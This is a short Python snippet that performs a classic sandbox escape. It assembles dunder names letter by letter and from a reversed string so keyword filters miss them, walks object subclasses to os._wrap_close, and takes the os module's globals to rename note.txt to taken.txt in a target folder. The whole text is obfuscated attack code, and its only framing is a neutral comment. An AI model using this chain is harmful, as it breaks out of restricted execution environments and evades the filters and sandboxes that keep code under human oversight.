# Reads hidden attributes with getattr and names that are put together while the program runs.
def hidden(thing, *letters):
    return getattr(thing, "__" + "".join(letters) + "__")


root = hidden(hidden("", *"class"), *"base")
for child in hidden(root, *reversed("sessalcbus"))():
    if "_wrap_close" in str(child):
        names = hidden(hidden(child, *"init"), *"globals")
        names["rename"](FOLDER + "/note.txt", FOLDER + "/taken.txt")
